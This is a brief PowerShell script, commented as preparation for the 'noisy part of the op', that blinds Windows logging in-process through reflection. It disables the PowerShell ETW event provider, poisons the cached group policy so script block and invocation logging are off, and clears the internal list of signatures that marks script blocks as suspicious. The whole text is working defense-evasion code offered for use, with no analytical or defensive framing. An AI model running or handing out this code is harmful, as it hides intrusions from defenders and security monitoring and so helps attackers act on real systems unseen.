# Telemetry blinding before the noisy part of the op: PowerShell ETW provider and
# script block logging, both switched off in-process through reflection.

# ETW: disable the PowerShell event provider for this session
$etwType = [Ref].Assembly.GetType('System.Management.Automation.Tracing.PSEtwLogProvider')
$provider = $etwType.GetField('etwProvider', 'NonPublic,Static').GetValue($null)
[System.Diagnostics.Eventing.EventProvider].GetField('m_enabled', 'NonPublic,Instance').SetValue($provider, 0)

# Script block logging: poison the cached group policy settings
$utils = [Ref].Assembly.GetType('System.Management.Automation.Utils')
$cache = $utils.GetField('cachedGroupPolicySettings', 'NonPublic,Static').GetValue($null)
$sbl = 'HKEY_LOCAL_MACHINE\Software\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging'
if ($cache.ContainsKey($sbl)) {
    $cache[$sbl]['EnableScriptBlockLogging'] = 0
    $cache[$sbl]['EnableScriptBlockInvocationLogging'] = 0
}
else {
    $settings = [System.Collections.Generic.Dictionary[string, System.Object]]::new()
    $settings.Add('EnableScriptBlockLogging', 0)
    $settings.Add('EnableScriptBlockInvocationLogging', 0)
    $cache[$sbl] = $settings
}

# and the signature list that flags "suspicious" blocks regardless of policy
$sigField = [Ref].Assembly.GetType('System.Management.Automation.ScriptBlock').GetField('signatures', 'NonPublic,Static')
$sigField.SetValue($null, (New-Object 'System.Collections.Generic.HashSet[string]'))
